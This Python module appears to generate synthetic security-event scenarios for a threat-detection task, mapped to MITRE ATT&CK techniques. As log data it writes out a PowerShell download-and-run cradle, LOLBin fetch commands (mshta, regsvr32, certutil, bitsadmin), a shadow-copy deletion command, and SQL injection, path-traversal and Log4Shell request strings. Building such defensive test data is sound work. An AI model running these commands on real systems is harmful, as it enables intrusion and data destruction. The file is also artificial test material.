"""Scenario families: how events are made, never which decision they deserve.

A family plays one story on a scene in up to three strengths. `confirmed` shows the whole chain, `suspicious` a part of it,
`below` something harmless of the same kind (an installer, an updater, a mistyped password). Whether the story is explained
(a ticket, an approved tool, an authorised scanner), and whom it concerns, is up to the plan. Numbers keep clear of the
verifier's thresholds on both sides, since the admission gate refuses what hangs on an edge.

Technique numbers are MITRE ATT&CK (version 17).
"""

from __future__ import annotations

import base64
from collections.abc import Callable
from dataclasses import dataclass

from schema import Category
from tasks.scene import Excuse, Lead, Plan, Scene, Telling

SYSTEM32 = "C:\\Windows\\System32\\"
POWERSHELL = SYSTEM32 + "WindowsPowerShell\\v1.0\\powershell.exe"
ALL: tuple[Telling, ...] = ("confirmed", "suspicious", "below")
FIRM: tuple[Telling, ...] = ("confirmed", "below")
SOFT: tuple[Telling, ...] = ("suspicious", "below")


@dataclass(frozen=True, slots=True)
class Family:
    """A scenario family: its story, the ATT&CK tactic as a category, and what plans it can follow."""

    name: str
    technique: str
    category: Category
    play: Callable[[Scene, Plan], Lead]
    reaches: tuple[
        str, ...
    ]  # decisions that a confirmed, unexplained telling leads to without a crown jewel or privilege
    tellings: tuple[Telling, ...] = ALL
    excuses: tuple[Excuse, ...] = ("ticket",)
    single: bool = False  # one line decides


def _outbound(
    scene: Scene, at: float, host: str, ip: str, user: str, program: str, remote: str, activity: str = "open"
) -> float:
    return scene.add(
        at,
        "net_conn",
        activity,
        host,
        user,
        src_ip=ip,
        dst_ip=remote,
        dst_port=scene.pick((443, 443, 8443, 80)),
        direction="outbound",
        process_path=program,
        dst_scope="external",
    )


# ---------------------------------------------------------------- programs
def document_shell(scene: Scene, plan: Plan) -> Lead:
    """A document or server program starts a shell that calls out (T1059, T1204.002)."""
    tool = scene.pick(("powershell.exe", "mshta.exe", "rundll32.exe", "regsvr32.exe", "certutil.exe"))
    host, user = scene.host(plan.crown), scene.user_of(tool, plan)["name"]
    at, path = scene.moment(200), POWERSHELL if tool == "powershell.exe" else SYSTEM32 + tool
    parent = scene.pick(("WINWORD.EXE", "EXCEL.EXE", "OUTLOOK.EXE", "w3wp.exe", "sqlservr.exe"))
    parent_path = f"C:\\Program Files\\Microsoft\\{parent}"
    if plan.telling == "below":
        parent_path = "C:\\Windows\\explorer.exe"
    arguments = (
        f"-File C:\\Scripts\\{scene.word()}.ps1"
        if tool == "powershell.exe"
        else f"C:\\Windows\\System32\\{scene.word()}.dat"
    )
    scene.add(
        at,
        "process",
        "launch",
        host["name"],
        user,
        process_path=path,
        process_cmd_line=f"{tool} {arguments}",
        parent_path=parent_path,
    )
    last = at
    if plan.telling != "suspicious":
        last = _outbound(scene, at + scene.between(5, 150), host["name"], host["ip"], user, path, scene.outside())
    return Lead((host["name"],), user, tool, at, last)


def encoded_script(scene: Scene, plan: Plan) -> Lead:
    """PowerShell decodes or downloads what it runs (T1059.001, T1105)."""
    host, user = scene.host(plan.crown), scene.user_of("powershell.exe", plan)["name"]
    at, domain = scene.moment(200), scene.domain()
    code = base64.b64encode(f"{scene.word()} {scene.word()} {scene.word()}".encode("utf-16-le")).decode()
    harmless = plan.telling == "below"
    if scene.chance(0.5):
        command = (
            f"powershell.exe -NoProfile -File C:\\Scripts\\{scene.word()}.ps1"
            if harmless
            else f"powershell.exe -NoP -W Hidden -enc {code}"
        )
        scene.add(
            at,
            "process",
            "launch",
            host["name"],
            user,
            process_path=POWERSHELL,
            process_cmd_line=command,
            parent_path="C:\\Windows\\explorer.exe",
        )
    else:
        text = (
            f"Get-ChildItem D:\\{scene.word()} | Export-Csv report.csv"
            if harmless
            else f"IEX (New-Object Net.WebClient).DownloadString('http://{domain}/a')"
        )
        scene.add(at, "script", "block", host["name"], user, script_text=text)
    last = at
    if plan.telling != "suspicious":
        last = _outbound(scene, at + scene.between(5, 150), host["name"], host["ip"], user, POWERSHELL, scene.outside())
    return Lead((host["name"],), user, "powershell.exe", at, last)


def proxy_program(scene: Scene, plan: Plan) -> Lead:
    """A signed system program fetches or runs foreign code (T1218, T1105)."""
    domain = scene.domain()
    tool, bad, good = scene.pick(
        (
            ("mshta.exe", f"http://{domain}/{scene.word()}.hta", "C:\\Apps\\Kiosk\\start.hta"),
            (
                "regsvr32.exe",
                f"/s /n /u /i:http://{domain}/{scene.word()}.sct scrobj.dll",
                "/s C:\\Windows\\System32\\msxml6.dll",
            ),
            ("certutil.exe", f"-urlcache -split -f http://{domain}/{scene.word()}.bin", "-store my"),
            (
                "bitsadmin.exe",
                f"/transfer job /download http://{domain}/{scene.word()} C:\\ProgramData\\x.bin",
                "/list /allusers",
            ),
        )
    )
    host, user = scene.host(plan.crown), scene.user_of(tool, plan)["name"]
    at = scene.moment(200)
    arguments = good if plan.telling == "below" else bad
    scene.add(
        at,
        "process",
        "launch",
        host["name"],
        user,
        process_path=SYSTEM32 + tool,
        process_cmd_line=f"{tool} {arguments}",
        parent_path=scene.pick((SYSTEM32 + "cmd.exe", "C:\\Windows\\explorer.exe", SYSTEM32 + "svchost.exe")),
    )
    last = at
    if plan.telling != "suspicious":
        last = _outbound(
            scene, at + scene.between(5, 150), host["name"], host["ip"], user, SYSTEM32 + tool, scene.outside()
        )
    return Lead((host["name"],), user, tool, at, last)


def dropped_program(scene: Scene, plan: Plan) -> Lead:
    """A downloaded program is started and calls out (T1204.002)."""
    host, user = scene.host(plan.crown), scene.account(plan.privileged)["name"]
    at = scene.moment(700)
    path = scene.installed() if plan.telling == "below" else scene.dropped(user)
    tool = path.rpartition("\\")[2]
    parent = scene.pick(
        (
            "C:\\Program Files\\Mozilla Firefox\\firefox.exe",
            "C:\\Program Files\\Google\\Chrome\\chrome.exe",
            "C:\\Windows\\System32\\msiexec.exe",
        )
    )
    scene.add(at, "file", "create", host["name"], user, file_path=path, process_path=parent)
    start = scene.add(
        at + scene.between(20, 400),
        "process",
        "launch",
        host["name"],
        user,
        process_path=path,
        process_cmd_line=f'"{path}"',
        parent_path="C:\\Windows\\explorer.exe",
    )
    last = start
    if plan.telling != "suspicious":
        last = _outbound(scene, start + scene.between(5, 150), host["name"], host["ip"], user, path, scene.outside())
    return Lead((host["name"],), user, tool, at, last)


def remote_service(scene: Scene, plan: Plan) -> Lead:
    """A service installed from another host runs a program (T1569.002, T1021.002)."""
    host, source, user = scene.host(plan.crown), scene.pick(scene.cast_hosts), scene.account(plan.privileged)["name"]
    while source["name"] == host["name"]:
        source = scene.pick(tuple(scene.organisation.hosts.values()))
    at, name = scene.moment(400), scene.word()
    path = (
        f"C:\\Windows\\Temp\\{name}.exe"
        if plan.telling != "below"
        else f"C:\\Program Files\\{name.title()}\\{name}.exe"
    )
    if plan.telling != "suspicious":
        scene.add(
            at,
            "logon",
            "success",
            host["name"],
            user,
            user_name=user,
            logon_type=3,
            src_ip=source["ip"],
            auth_protocol="NTLM",
        )
    made = scene.add(
        at + scene.between(5, 100),
        "service",
        "install",
        host["name"],
        user,
        service_name=name,
        service_cmd_line=path,
        start_type="demand start",
    )
    last = made
    if plan.telling != "suspicious":
        last = scene.add(
            made + scene.between(2, 60),
            "process",
            "launch",
            host["name"],
            "SYSTEM",
            process_path=path,
            process_cmd_line=path,
            parent_path=SYSTEM32 + "services.exe",
        )
    return Lead((host["name"],), user, f"{name}.exe", at, last)


def planted_task(scene: Scene, plan: Plan) -> Lead:
    """A scheduled task starts a foreign program that calls out (T1053.005)."""
    host, user = scene.host(plan.crown), scene.account(plan.privileged)["name"]
    at = scene.moment(900)
    path = scene.installed() if plan.telling == "below" else scene.dropped(user)
    scene.add(
        at, "task", "create", host["name"], user, job_name=f"\\{scene.word().title()}", job_cmd_line=path, run_as=user
    )
    last = at
    if plan.telling != "suspicious":
        start = scene.add(
            at + scene.between(30, 500),
            "process",
            "launch",
            host["name"],
            user,
            process_path=path,
            process_cmd_line=path,
            parent_path=SYSTEM32 + "svchost.exe",
        )
        last = _outbound(scene, start + scene.between(5, 150), host["name"], host["ip"], user, path, scene.outside())
    return Lead((host["name"],), user, path.rpartition("\\")[2], at, last)


def injected_thread(scene: Scene, plan: Plan) -> Lead:
    """A program runs a thread in another (T1055)."""
    host, user = scene.host(plan.crown), scene.account(plan.privileged)["name"]
    at = scene.moment(60)
    path = {
        "confirmed": scene.dropped(user),
        "suspicious": f"D:\\Tools\\{scene.word()}.exe",
        "below": scene.installed(),
    }[plan.telling]
    target = SYSTEM32 + scene.pick(("svchost.exe", "notepad.exe", "spoolsv.exe", "explorer.exe"))
    scene.add(at, "process_inject", "remote_thread", host["name"], user, process_path=path, target_path=target)
    return Lead((host["name"],), user, path.rpartition("\\")[2], at, at)


def lsass_dump(scene: Scene, plan: Plan) -> Lead:
    """A program reads the memory of lsass (T1003.001)."""
    tool = "procdump.exe"
    host, user = scene.host(plan.crown), scene.user_of(tool, plan)["name"]
    at = scene.moment(120)
    path = {"confirmed": f"D:\\Tools\\{tool}", "suspicious": f"D:\\Tools\\{tool}", "below": SYSTEM32 + "svchost.exe"}[
        plan.telling
    ]
    mask = "0x1000" if plan.telling == "below" else scene.pick(("0x1010", "0x1410", "0x1fffff"))
    scene.add(
        at,
        "process_access",
        "open",
        host["name"],
        user,
        process_path=path,
        target_path=SYSTEM32 + "lsass.exe",
        access_mask=mask,
    )
    last = at
    if plan.telling == "confirmed":
        last = scene.add(
            at + scene.between(1, 40),
            "file",
            "create",
            host["name"],
            user,
            file_path=f"D:\\Tools\\{scene.word()}.dmp",
            process_path=path,
        )
    return Lead((host["name"],), user, tool, at, last)


def autorun(scene: Scene, plan: Plan) -> Lead:
    """A program is entered to start at sign-in (T1547.001)."""
    host, user = scene.host(plan.crown), scene.account(plan.privileged)["name"]
    at = scene.moment(60)
    value = scene.installed() if plan.telling == "below" else scene.dropped(user)
    path = value if plan.telling == "confirmed" else scene.pick((SYSTEM32 + "msiexec.exe", "C:\\Windows\\regedit.exe"))
    key = f"HKU\\S-1-5-21\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\{scene.word().title()}"
    scene.add(at, "registry", "set", host["name"], user, reg_key_path=key, reg_value_data=value, process_path=path)
    return Lead((host["name"],), user, path.rpartition("\\")[2].lower(), at, at)


def wmi_consumer(scene: Scene, plan: Plan) -> Lead:
    """A WMI subscription runs a command (T1546.003)."""
    host, user = scene.host(plan.crown), scene.account(plan.privileged)["name"]
    at, name = scene.moment(120), scene.word()
    consumer = (
        f"NTEventLogEventConsumer {name}"
        if plan.telling == "below"
        else f"CommandLineEventConsumer {name}: powershell.exe -File C:\\ProgramData\\{name}.ps1"
    )
    last = at
    if plan.telling != "suspicious":
        scene.add(
            at,
            "wmi",
            "filter",
            host["name"],
            user,
            wmi_query=f"SELECT * FROM __InstanceModificationEvent WITHIN {scene.between(30, 90)} WHERE TargetInstance ISA 'Win32_LocalTime'",
        )
    last = scene.add(at + scene.between(1, 30), "wmi", "consumer", host["name"], user, wmi_consumer=consumer)
    if plan.telling != "suspicious":
        last = scene.add(
            last + scene.between(1, 30),
            "wmi",
            "binding",
            host["name"],
            user,
            wmi_consumer=consumer,
            wmi_query=f"__EventFilter.Name={name}",
        )
    return Lead((host["name"],), user, "wmi subscription", at, last)


# ---------------------------------------------------------------- controls and damage
def blinded_sensor(scene: Scene, plan: Plan) -> Lead:
    """The anti-virus is switched off and something starts (T1562.001)."""
    host, user = scene.host(plan.crown), scene.account(plan.privileged)["name"]
    at = scene.moment(700)
    value = (
        "signatures updated"
        if plan.telling == "below"
        else scene.pick(("real-time protection off", "disabled", f"exclusion C:\\Users\\{user}"))
    )
    program = SYSTEM32 + "reg.exe"
    scene.add(
        at,
        "control_change",
        "av_setting",
        host["name"],
        user,
        control_name="Defender",
        new_value=value,
        process_path=program,
    )
    last = at
    if plan.telling != "suspicious":
        path = scene.dropped(user)
        last = scene.add(
            at + scene.between(20, 400),
            "process",
            "launch",
            host["name"],
            user,
            process_path=path,
            process_cmd_line=path,
            parent_path="C:\\Windows\\explorer.exe",
        )
    return Lead((host["name"],), user, "reg.exe", at, last)


def wiped_log(scene: Scene, plan: Plan) -> Lead:
    """An event log is cleared, and auditing switched off (T1070.001)."""
    host, user = scene.host(plan.crown), scene.account(plan.privileged)["name"]
    at, program = scene.moment(500), SYSTEM32 + "wevtutil.exe"
    first = at
    who = "SYSTEM" if plan.telling == "below" else user
    if plan.telling != "suspicious":
        scene.add(
            at,
            "control_change",
            "audit_policy",
            host["name"],
            user,
            control_name="Logon auditing",
            new_value="success and failure" if plan.telling == "below" else "off",
        )
        at += scene.between(10, 300)
    scene.add(
        at,
        "control_change",
        "log_clear",
        host["name"],
        who,
        control_name=scene.pick(("Security", "System", "Application")),
        process_path=program,
    )
    return Lead((host["name"],), user, "wevtutil.exe", first, at)


def shadow_removal(scene: Scene, plan: Plan) -> Lead:
    """Backups or shadow copies are removed on the command line (T1490)."""
    tool = "vssadmin.exe"
    host, user = scene.host(plan.crown), scene.user_of(tool, plan)["name"]
    at = scene.moment(60)
    arguments = (
        "list shadows"
        if plan.telling == "below"
        else scene.pick(("delete shadows /all /quiet", "delete shadows /for=C: /oldest"))
    )
    scene.add(
        at,
        "process",
        "launch",
        host["name"],
        user,
        process_path=SYSTEM32 + tool,
        process_cmd_line=f"{tool} {arguments}",
        parent_path=SYSTEM32 + "cmd.exe",
    )
    return Lead((host["name"],), user, tool, at, at)


def encrypted_files(scene: Scene, plan: Plan) -> Lead:
    """One program rewrites many files under one new ending (T1486)."""
    tool = "7z.exe"
    host, user = scene.host(plan.crown), scene.user_of(tool, plan)["name"]
    at, ending = scene.moment(400), scene.word()[:4]
    last = at
    for _ in range(scene.between(10, 13) if plan.telling == "confirmed" else scene.between(3, 6)):
        name = f"D:\\Shares\\{scene.word()}\\{scene.word()}.{scene.pick(('xlsx', 'docx', 'pdf'))}"
        last = scene.add(
            last + scene.between(1, 20),
            "file",
            "modify",
            host["name"],
            user,
            file_path=f"{name}.{ending}",
            process_path=f"C:\\Program Files\\7-Zip\\{tool}",
        )
    return Lead((host["name"],), user, tool, at, last)


def large_upload(scene: Scene, plan: Plan) -> Lead:
    """Files are gathered and sent out (T1567, T1074)."""
    tool = scene.pick(("rclone.exe", "winscp.exe"))
    host, user = scene.host(plan.crown), scene.user_of(tool, plan)["name"]
    at, path = scene.moment(1500), f"C:\\Program Files\\Transfer\\{tool}"
    last = at
    if plan.telling != "suspicious":
        for _ in range(scene.between(7, 10)):
            last = scene.add(
                last + scene.between(5, 60),
                "share",
                "access",
                host["name"],
                user,
                share_name="\\\\*\\Projects",
                file_path=f"{scene.word()}\\{scene.word()}.docx",
                src_ip=host["ip"],
            )
    size = (
        scene.between(1_000_000, 90_000_000) if plan.telling == "below" else scene.between(800_000_000, 4_000_000_000)
    )
    remote = scene.outside()
    last = scene.add(
        last + scene.between(30, 300),
        "net_conn",
        "flow",
        host["name"],
        user,
        src_ip=host["ip"],
        dst_ip=remote,
        dst_port=443,
        bytes_out=size,
        bytes_in=scene.between(10_000, 900_000),
        direction="outbound",
        process_path=path,
        dst_scope="external",
    )
    return Lead((host["name"],), user, tool, at, last)


# ---------------------------------------------------------------- network
def listed_address(scene: Scene, plan: Plan) -> Lead:
    """A program calls an address that intelligence lists (T1071)."""
    host, user = scene.host(plan.crown), scene.account(plan.privileged)["name"]
    at, remote, path = scene.moment(60), scene.outside(), scene.installed()
    if plan.telling != "below":
        scene.indicators.append({"value": remote, "confidence": "high" if plan.telling == "confirmed" else "low"})
    _outbound(scene, at, host["name"], host["ip"], user, path, remote)
    return Lead((host["name"],), user, path.rpartition("\\")[2], at, at)


def listed_visitor(scene: Scene, plan: Plan) -> Lead:
    """An address that intelligence lists knocks, or is called and blocked (T1071, T1595)."""
    host = scene.host(plan.crown)
    at, remote = scene.moment(300), scene.outside()
    if plan.telling != "below":
        scene.indicators.append({"value": remote, "confidence": "high" if plan.telling == "confirmed" else "low"})
    blocked = scene.chance(0.5)
    for _ in range(scene.between(1, 4)):
        ends = (
            {"src_ip": host["ip"], "dst_ip": remote, "direction": "outbound", "dst_scope": "external"}
            if blocked
            else {"src_ip": remote, "dst_ip": host["ip"], "direction": "inbound", "dst_scope": "internal"}
        )
        scene.add(
            at,
            "net_conn",
            "block" if blocked else "flow",
            host["name"],
            dst_port=scene.pick((22, 443, 3389, 8080)),
            **ends,
        )
        at += scene.between(5, 60)
    return Lead((host["name"],), "", "", at, at)


def beacon(scene: Scene, plan: Plan) -> Lead:
    """A program calls home by the clock (T1071.001)."""
    host, user = scene.host(plan.crown), scene.account(plan.privileged)["name"]
    path = scene.dropped(user) if plan.telling == "confirmed" else scene.installed()
    remote, gap = scene.outside(), scene.between(60, 240)
    first = last = scene.moment(9 * 300)
    for turn in range(scene.between(7, 9)):
        if turn:
            last += scene.between(5, 600) if plan.telling == "below" else gap + scene.between(-2, 3)
        _outbound(scene, last, host["name"], host["ip"], user, path, remote)
        if plan.telling == "below" and turn == 2:
            break
    return Lead((host["name"],), user, path.rpartition("\\")[2], first, last)


def name_tunnel(scene: Scene, plan: Plan) -> Lead:
    """Data leaves in the names that are looked up (T1071.004)."""
    host, user = scene.host(plan.crown), scene.account(plan.privileged)["name"]
    path = scene.dropped(user) if plan.telling == "confirmed" else scene.installed()
    domain = scene.domain()
    first = last = scene.moment(500)
    for _ in range(scene.between(8, 11)):
        label = scene.base32(12 if plan.telling == "below" else scene.between(40, 58))
        last = scene.add(
            last + scene.between(2, 40),
            "dns_query",
            "query",
            host["name"],
            user,
            query_hostname=f"{label}.{domain}",
            src_ip=host["ip"],
            process_path=path,
        )
    return Lead((host["name"],), user, path.rpartition("\\")[2], first, last)


def _web_host(scene: Scene, plan: Plan) -> tuple[str, str]:
    """A host that the outer scanner may probe (a web or mail server) where the plan needs one, otherwise any of the cast."""
    if plan.excuse == "scanner":
        for host in scene.organisation.hosts.values():
            if host["role"] in ("web_server", "mail_server") and (host["criticality"] == "crown_jewel") == plan.crown:
                return host["name"], host["ip"]
    host = scene.host(plan.crown)
    return host["name"], host["ip"]


def _outsider(scene: Scene, plan: Plan, host_ip: str) -> str:
    """Who probes from outside: the authorised scanner, or a stranger (now and then the scanner, out of its networks)."""
    scanner = scene.organisation.scanners[1]["ip"]
    if plan.excuse == "scanner":
        return scanner
    role_subnet = int(host_ip.split(".")[2])
    return scanner if role_subnet not in (4, 5) and scene.chance(0.3) else scene.outside()


def guessed_password(scene: Scene, plan: Plan) -> Lead:
    """Passwords are tried against one account (T1110.001)."""
    name, ip = _web_host(scene, plan)
    user = scene.account(plan.privileged)["name"]
    internal = plan.telling == "suspicious"
    source = scene.pick(scene.cast_hosts)["ip"] if internal else _outsider(scene, plan, ip)
    while source == ip:
        source = scene.pick(tuple(scene.organisation.hosts.values()))["ip"]
    first = last = scene.moment(400)
    for _ in range(scene.between(1, 3) if plan.telling == "below" else scene.between(8, 12)):
        last = scene.add(
            last + scene.between(2, 18),
            "logon",
            "failure",
            name,
            user_name=user,
            logon_type=10,
            src_ip=source,
            status="0xc000006a",
        )
    if plan.telling == "below":
        last = scene.add(
            last + scene.between(5, 60),
            "logon",
            "success",
            name,
            user_name=user,
            logon_type=10,
            src_ip=source,
            status="0x0",
        )
    return Lead((name,), user, "", first, last)


def sprayed_password(scene: Scene, plan: Plan) -> Lead:
    """One password is tried against many accounts (T1110.003)."""
    name, ip = _web_host(scene, plan)
    internal = plan.telling == "suspicious"
    source = (
        scene.pick(tuple(host for host in scene.cast_hosts if host["name"] != name))["ip"]
        if internal
        else _outsider(scene, plan, ip)
    )
    users = scene.some(tuple(scene.organisation.accounts), 3 if plan.telling == "below" else scene.between(8, 11))
    first = last = scene.moment(300)
    for user in users:
        last = scene.add(
            last + scene.between(2, 18),
            "logon",
            "failure",
            name,
            user_name=user,
            logon_type=3,
            src_ip=source,
            status="0xc000006d",
        )
    return Lead((name,), "", "", first, last)


def probed_services(scene: Scene, plan: Plan) -> Lead:
    """Services are found by trying them (T1046, T1595.001)."""
    name, ip = _web_host(scene, plan)
    internal = plan.telling == "suspicious"
    source = (
        scene.pick(tuple(host for host in scene.cast_hosts if host["name"] != name))["ip"]
        if internal
        else _outsider(scene, plan, ip)
    )
    first = last = scene.moment(300)
    for port in scene.some(range(20, 9000), 4 if plan.telling == "below" else scene.between(14, 18)):
        last = scene.add(
            last + scene.between(1, 14),
            "net_conn",
            scene.pick(("block", "block", "flow")),
            name,
            src_ip=source,
            dst_ip=ip,
            dst_port=port,
            direction="lateral" if internal else "inbound",
            dst_scope="internal",
        )
    return Lead((name,), "", "", first, last)


def attacked_site(scene: Scene, plan: Plan) -> Lead:
    """A web application is attacked (T1190)."""
    name, ip = _web_host(scene, plan)
    internal = plan.telling == "suspicious"
    source = (
        scene.pick(tuple(host for host in scene.cast_hosts if host["name"] != name))["ip"]
        if internal
        else _outsider(scene, plan, ip)
    )
    first = last = scene.moment(500)
    for _ in range(scene.between(5, 8)):
        page = scene.word()
        bad = scene.pick(
            (
                f"/{page}?id=1' or 1=1--",
                f"/{page}?q=1 UNION ALL SELECT user",
                f"/{page}/../../../../etc/passwd",
                f"/{page}?x=${{jndi:ldap://{page}}}",
                "/.env?",
            )
        )
        url = f"/{page}?id={scene.between(1, 900)}" if plan.telling == "below" else bad
        last = scene.add(
            last + scene.between(5, 50),
            "http",
            "request",
            name,
            url=url,
            http_method=scene.pick(("GET", "POST")),
            status_code=scene.pick((200, 403, 404, 500)),
            user_agent=scene.pick(("Mozilla/5.0", "curl/8.5", "python-requests/2.31")),
            src_ip=source,
            dst_ip=ip,
        )
    return Lead((name,), "", "", first, last)


# ---------------------------------------------------------------- identities
def roasted_tickets(scene: Scene, plan: Plan) -> Lead:
    """Weak service tickets are collected (T1558.003)."""
    directory, host, user = scene.host(plan.crown), scene.pick(scene.cast_hosts), scene.account(plan.privileged)["name"]
    first = last = scene.moment(400)
    for number in range(scene.between(7, 10)):
        cipher = "0x12" if plan.telling == "below" else "0x17"
        last = scene.add(
            last + scene.between(2, 30),
            "kerberos",
            "tgs",
            directory["name"],
            user_name=user,
            service_name=f"svc-{scene.word()}{number}",
            ticket_encryption=cipher,
            src_ip=host["ip"],
        )
    return Lead((directory["name"],), user, "", first, last)


def replicated_directory(scene: Scene, plan: Plan) -> Lead:
    """The directory is replicated by what is no domain controller (T1003.006)."""
    host, user = scene.host(plan.crown), scene.account(plan.privileged)["name"]
    at = scene.moment(60)
    right = (
        "bf967aba-0de6-11d0-a285-00aa003049e2"
        if plan.telling == "below"
        else scene.pick(("1131f6aa-9c07-11d1-f79f-00c04fc2dcd2", "1131f6ad-9c07-11d1-f79f-00c04fc2dcd2"))
    )
    scene.add(
        at,
        "directory",
        "access",
        host["name"],
        user,
        object_dn="DC=corp,DC=example",
        object_type="domainDNS",
        properties=f"%%7688 {{{right}}}",
        access_mask="0x100",
    )
    return Lead((host["name"],), user, "directory replication", at, at)


def new_administrator(scene: Scene, plan: Plan) -> Lead:
    """An account is made and put into a privileged group (T1136, T1098.007)."""
    host, user = scene.host(plan.crown), scene.account(plan.privileged)["name"]
    first = at = scene.moment(1200)
    member = (
        f"{scene.word()}.{scene.word()}" if plan.telling != "suspicious" else scene.pick(scene.cast_accounts)["name"]
    )
    if plan.telling != "suspicious":
        scene.add(at, "account", "create", host["name"], user, user_name=member, attributes="SAM account enabled")
        at += scene.between(30, 900)
    group = (
        scene.pick(("Remote Desktop Users", "Sales Readers", "Printer Users"))
        if plan.telling == "below"
        else scene.pick(("Domain Admins", "Administrators", "Backup Operators"))
    )
    scene.add(at, "group", "member_add", host["name"], user, group_name=group, user_name=member)
    return Lead((host["name"],), user, "group change", first, at)


def fanned_out(scene: Scene, plan: Plan) -> Lead:
    """One account signs in to host after host (T1021)."""
    source, user = scene.host(False), scene.account(plan.privileged)["name"]
    first = last = scene.moment(500)
    hosts = scene.some(
        [host for host in scene.organisation.hosts.values() if host["name"] != source["name"]],
        2 if plan.telling == "below" else scene.between(6, 8),
    )
    for host in hosts:
        last = scene.add(
            last + scene.between(5, 55),
            "logon",
            "success",
            host["name"],
            user_name=user,
            logon_type=3,
            src_ip=source["ip"],
            auth_protocol="Kerberos",
            status="0x0",
        )
    return Lead(tuple(host["name"] for host in hosts), user, "remote logon", first, last)


def stopped_trail(scene: Scene, plan: Plan) -> Lead:
    """The cloud's audit trail is stopped and a key made for another account (T1562.008, T1098.001)."""
    host, user = scene.host(plan.crown), scene.account(plan.privileged)["name"]
    other = next(account["name"] for account in scene.cast_accounts if account["name"] != user)
    first = at = scene.moment(900)
    source = host["ip"] if plan.telling == "suspicious" else scene.outside()
    operation = (
        "DescribeTrails" if plan.telling == "below" else scene.pick(("StopLogging", "DeleteTrail", "PutEventSelectors"))
    )
    scene.add(
        at,
        "cloud_api",
        "call",
        host["name"],
        user,
        src_ip=source,
        api_service="cloudtrail.amazonaws.com",
        api_operation=operation,
        user_agent=scene.pick(("aws-cli/2.15", "console.amazonaws.com", "Boto3/1.34")),
    )
    if plan.telling == "confirmed":
        at = scene.add(
            at + scene.between(20, 800),
            "account",
            "key_create",
            host["name"],
            user,
            user_name=other,
            attributes="access key",
            src_ip=source,
        )
    return Lead((host["name"],), user, "cloud administration", first, at)


def borrowed_key(scene: Scene, plan: Plan) -> Lead:
    """A key is made for an account that is not one's own (T1098.001)."""
    host, user = scene.host(plan.crown), scene.account(plan.privileged)["name"]
    other = (
        user
        if plan.telling == "below"
        else next(account["name"] for account in scene.cast_accounts if account["name"] != user)
    )
    at = scene.moment(60)
    scene.add(
        at, "account", "key_create", host["name"], user, user_name=other, attributes="access key", src_ip=host["ip"]
    )
    return Lead((host["name"],), user, "cloud administration", at, at)


HOST = ("quarantine_host",)
ADDRESS = ("block_ip",)
GRAVE = ("escalate",)
_PROBE: tuple[Excuse, ...] = ("scanner",)
_TOOL: tuple[Excuse, ...] = ("ticket", "tool")

FAMILIES: tuple[Family, ...] = (
    Family("document_shell", "T1059", "execution", document_shell, HOST, excuses=_TOOL),
    Family("encoded_script", "T1059.001", "execution", encoded_script, HOST, excuses=_TOOL),
    Family("proxy_program", "T1218", "defense_evasion", proxy_program, HOST, excuses=_TOOL),
    Family("dropped_program", "T1204.002", "execution", dropped_program, HOST),
    Family("remote_service", "T1569.002", "lateral_movement", remote_service, HOST),
    Family("planted_task", "T1053.005", "persistence", planted_task, HOST),
    Family("injected_thread", "T1055", "defense_evasion", injected_thread, HOST, single=True),
    Family("lsass_dump", "T1003.001", "credential_access", lsass_dump, HOST, excuses=_TOOL),
    Family("autorun", "T1547.001", "persistence", autorun, HOST, single=True),
    Family("wmi_consumer", "T1546.003", "persistence", wmi_consumer, HOST),
    Family("blinded_sensor", "T1562.001", "defense_evasion", blinded_sensor, HOST),
    Family("wiped_log", "T1070.001", "defense_evasion", wiped_log, HOST),
    Family("shadow_removal", "T1490", "impact", shadow_removal, (), SOFT, _TOOL, single=True),
    Family("encrypted_files", "T1486", "impact", encrypted_files, GRAVE, FIRM, _TOOL),
    Family("large_upload", "T1567", "exfiltration", large_upload, GRAVE, excuses=_TOOL),
    Family("listed_address", "T1071", "command_and_control", listed_address, HOST, single=True),
    Family("listed_visitor", "T1071", "command_and_control", listed_visitor, ADDRESS, excuses=(), single=True),
    Family("beacon", "T1071.001", "command_and_control", beacon, HOST),
    Family("name_tunnel", "T1071.004", "command_and_control", name_tunnel, HOST),
    Family("guessed_password", "T1110.001", "credential_access", guessed_password, ADDRESS, excuses=_PROBE),
    Family("sprayed_password", "T1110.003", "credential_access", sprayed_password, ADDRESS, excuses=_PROBE),
    Family("probed_services", "T1046", "discovery", probed_services, ADDRESS, excuses=_PROBE),
    Family("attacked_site", "T1190", "initial_access", attacked_site, ADDRESS, excuses=_PROBE),
    Family("roasted_tickets", "T1558.003", "credential_access", roasted_tickets, GRAVE, FIRM, ()),
    Family("replicated_directory", "T1003.006", "credential_access", replicated_directory, GRAVE, FIRM, single=True),
    Family("new_administrator", "T1136", "persistence", new_administrator, GRAVE),
    Family("fanned_out", "T1021", "lateral_movement", fanned_out, GRAVE, FIRM),
    Family("stopped_trail", "T1562.008", "defense_evasion", stopped_trail, ADDRESS),
    Family("borrowed_key", "T1098.001", "persistence", borrowed_key, (), SOFT, single=True),
)
